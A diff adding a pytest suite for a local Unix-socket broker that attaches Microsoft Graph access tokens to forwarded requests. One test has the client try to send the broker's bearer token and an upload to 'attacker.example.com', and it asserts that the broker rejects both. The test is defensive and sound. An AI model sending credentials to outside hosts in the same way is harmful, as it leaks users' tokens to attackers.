@@ -0,0 +1,177 @@
+import os
+import tempfile
+import threading
+import time
+from unittest import mock
+
+import httpx
+import pytest
+
+from src import auth, broker
+from src.utils.circuit_breaker import GraphUnavailableError
+
+pytestmark = pytest.mark.skipif(not hasattr(broker.socket, "AF_UNIX"), reason="需要 Unix 域套接字")
+
+
+def _graph_client(tmp_path, handler):
+    with mock.patch.object(auth.msal, "PublicClientApplication"):
+        client = auth.GraphClient("id", token_path=str(tmp_path / "token.json"), transport=httpx.MockTransport(handler))
+    client.get_token = lambda: "real-token"
+    client.search_index = client.prefetcher = None
+    return client
+
+
+def _shim(tmp_path, socket_path):
+    with mock.patch.object(auth.msal, "PublicClientApplication"):
+        client = broker.BrokeredGraphClient("id", socket_path=socket_path, token_path=str(tmp_path / "shim.json"))
+    client.search_index = client.prefetcher = None
+    return client
+
+
+@pytest.fixture
+def socket_path():
+    # AF_UNIX 路径长度有限，不使用 pytest 的 tmp_path
+    directory = tempfile.mkdtemp(prefix="m365")
+    yield os.path.join(directory, "b.sock")
+
+
+def _serve(socket_path, client, idle_timeout=60):
+    thread = threading.Thread(target=broker.serve, args=(socket_path, idle_timeout, client), daemon=True)
+    thread.start()
+    deadline = time.monotonic() + 5
+    while not os.path.exists(socket_path) and time.monotonic() < deadline:
+        time.sleep(0.01)
+    return thread
+
+
+def test_shim_forwards_requests_with_broker_token(tmp_path, socket_path):
+    seen = []
+
+    def handler(request):
+        seen.append(request)
+        if request.url.path.endswith("/broken"):
+            return httpx.Response(503, json={"error": {"code": "ServiceUnavailable", "message": "维护中"}})
+        if request.url.path.endswith("/missing"):
+            return httpx.Response(404, json={"error": {"code": "ErrorItemNotFound", "message": "不存在"}})
+        return httpx.Response(200, json={"echo": request.content.decode() or None})
+
+    _serve(socket_path, _graph_client(tmp_path, handler))
+    shim = _shim(tmp_path, socket_path)
+
+    assert shim.request("GET", "/me").json() == {"echo": None}
+    assert shim.request("POST", "/me/events", json={"subject": "会议"}).json() == {"echo": '{"subject":"会议"}'}
+    # 访问令牌由代理附加；时区偏好不重复，调用方的其他偏好保留
+    assert seen[0].headers["Authorization"] == "Bearer real-token"
+    prefer = shim.request("GET", "/me/messages/1", headers={"Prefer": 'outlook.body-content-type="text"'})
+    assert prefer.status_code == 200
+    assert seen[-1].headers["Prefer"] == 'outlook.timezone="China Standard Time", outlook.body-content-type="text"'
+
+    with pytest.raises(GraphUnavailableError):
+        shim.request("GET", "/broken")
+    with pytest.raises(RuntimeError, match="ErrorItemNotFound"):
+        shim.request("GET", "/missing")
+    assert shim.is_authenticated is True
+    assert shim.get_metrics()["broker"]["broker"]["requests"] == 5
+
+
+def test_upload_urls_are_sent_without_authorization(tmp_path, socket_path):
+    seen = []
+
+    def handler(request):
+        seen.append(request)
+        return httpx.Response(201, json={"id": "att"})
+
+    _serve(socket_path, _graph_client(tmp_path, handler))
+    shim = _shim(tmp_path, socket_path)
+    response = shim.request_upload_url("PUT", "https://outlook.office.com/api/session?authtoken=x", content=b"\x00\x01")
+    assert response.json() == {"id": "att"}
+    assert "authorization" not in seen[0].headers and seen[0].content == b"\x00\x01"
+
+
+def test_requests_outside_graph_and_upload_hosts_are_rejected(tmp_path, socket_path):
+    seen = []
+    _serve(socket_path, _graph_client(tmp_path, lambda r: seen.append(r) or httpx.Response(200, json={})))
+    shim = _shim(tmp_path, socket_path)
+    # 代理不会把访问令牌附加到 Graph 之外的地址，也不转发到其他主机
+    with pytest.raises(RuntimeError, match="附加访问令牌"):
+        shim._http.get("https://attacker.example.com/me", headers={"Authorization": f"Bearer {broker.BROKER_TOKEN}"})
+    with pytest.raises(RuntimeError, match="不转发"):
+        shim.request_upload_url("PUT", "https://attacker.example.com/session", content=b"x")
+    assert seen == []
+
+
+def test_socket_ownership_is_checked(socket_path):
+    directory = os.path.dirname(socket_path)
+    os.chmod(directory, 0o777)
+    with pytest.raises(RuntimeError, match="其他用户"):
+        broker.connect(socket_path, spawn=False)
+    os.chmod(directory, 0o700)
+    # 套接字路径上不是套接字 (可能被他人替换) 时拒绝连接
+    open(socket_path, "w").close()
+    with pytest.raises(RuntimeError, match="拒绝连接"):
+        broker.connect(socket_path, spawn=False)
+
+
+def test_responses_are_streamed_in_frames(tmp_path, socket_path):
+    release = threading.Event()
+
+    def body():
+        yield b"a" * broker.FRAME_BYTES
+        # 代理若缓冲整个响应，这里会超时
+        assert release.wait(5)
+        yield b"b" * broker.FRAME_BYTES
+
+    _serve(socket_path, _graph_client(tmp_path, lambda r: httpx.Response(200, content=body())))
+    chunks = _shim(tmp_path, socket_path).iter_bytes("GET", "/me/messages/1/attachments/a/$value")
+    # 第一块在服务器发送剩余数据之前就已到达
+    assert next(chunks) == b"a" * broker.FRAME_BYTES
+    release.set()
+    assert b"".join(chunks) == b"b" * broker.FRAME_BYTES
+
+
+def test_get_responses_are_cached_until_a_write(tmp_path, socket_path, monkeypatch):
+    # 响应缓存默认关闭，需显式启用
+    monkeypatch.setenv("M365_BROKER_CACHE_TTL", "30")
+    seen = []
+
+    def handler(request):
+        seen.append(request.method)
+        return httpx.Response(200, json={"n": len(seen)})
+
+    _serve(socket_path, _graph_client(tmp_path, handler))
+    shim = _shim(tmp_path, socket_path)
+    assert shim.request("GET", "/me/events").json() == {"n": 1}
+    assert shim.request("GET", "/me/events").json() == {"n": 1}
+    shim.request("POST", "/me/events", json={"subject": "会议"})
+    assert shim.request("GET", "/me/events").json() == {"n": 3}
+    assert seen == ["GET", "POST", "GET"]
+    cache = shim.get_metrics()["broker"]["cache"]
+    assert cache["hits"] == 1 and cache["invalidations"] == 1
+
+
+def test_transport_errors_surface_as_unavailable(tmp_path, socket_path):
+    def handler(request):
+        raise httpx.ConnectError("连接被拒绝")
+
+    _serve(socket_path, _graph_client(tmp_path, handler))
+    with pytest.raises(GraphUnavailableError, match="网络错误"):
+        _shim(tmp_path, socket_path).request("GET", "/me")
+
+
+def test_broker_exits_when_idle(tmp_path, socket_path):
+    thread = _serve(socket_path, _graph_client(tmp_path, lambda r: httpx.Response(200, json={})), idle_timeout=0.3)
+    _shim(tmp_path, socket_path).request("GET", "/me")
+    thread.join(5)
+    assert not thread.is_alive()
+    assert not os.path.exists(socket_path)
+    assert broker.connect(socket_path, spawn=False) is None
+
+
+def test_response_cache_is_off_by_default(tmp_path, socket_path, monkeypatch):
+    monkeypatch.delenv("M365_BROKER_CACHE_TTL", raising=False)
+    seen = []
+    _serve(socket_path, _graph_client(tmp_path, lambda r: seen.append(r) or httpx.Response(200, json={})))
+    shim = _shim(tmp_path, socket_path)
+    shim.request("GET", "/me/events")
+    shim.request("GET", "/me/events")
+    assert len(seen) == 2